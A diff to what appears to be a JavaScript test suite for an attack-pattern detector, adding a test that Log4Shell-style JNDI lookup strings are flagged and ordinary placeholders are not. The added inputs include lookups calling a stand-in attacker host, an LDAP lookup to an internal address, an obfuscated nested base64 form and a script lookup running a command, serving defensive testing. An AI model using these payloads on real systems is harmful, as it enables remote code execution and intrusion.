@@ -792,3 +792,9 @@ t.test('open redirects (eleventh round): a URL behind a prefix a check reads as 
   for (const p of ['http://google.com', ' http://google.com', 'xhttp://shop.example.com/a', 'myapp://callback', 'abchttp:/x']) t.notOk(q(p, 'next').includes('open_redirect'), p)
   t.notOk(q('x00http://google.com', 'q').includes('open_redirect'), 'under no redirect parameter')
 })
+
+t.test('jndi (eleventh round): lookups that reach the network or run a script by themselves, a base64 lookup', async (t) => {
+  for (const p of ['${url:UTF-8::https://c7f3k2.attacker.example.net/}', '${dns:address|c7f3k2.attacker.example.net}', '${script:javascript:java.lang.Runtime.getRuntime().exec("id")}', '${ldap://10.10.14.10:1389/generated}', '${jn${base64:ZGk=}:ldap://x}']) t.ok(q(p).includes('jndi'), p)
+  // placeholders and lookups that read nothing remote
+  for (const p of ['${url}', '${dns}', 'Hello ${name}', '${base64:aGVsbG8=}', '${env:HOME}']) t.notOk(q(p).includes('jndi'), p)
+})
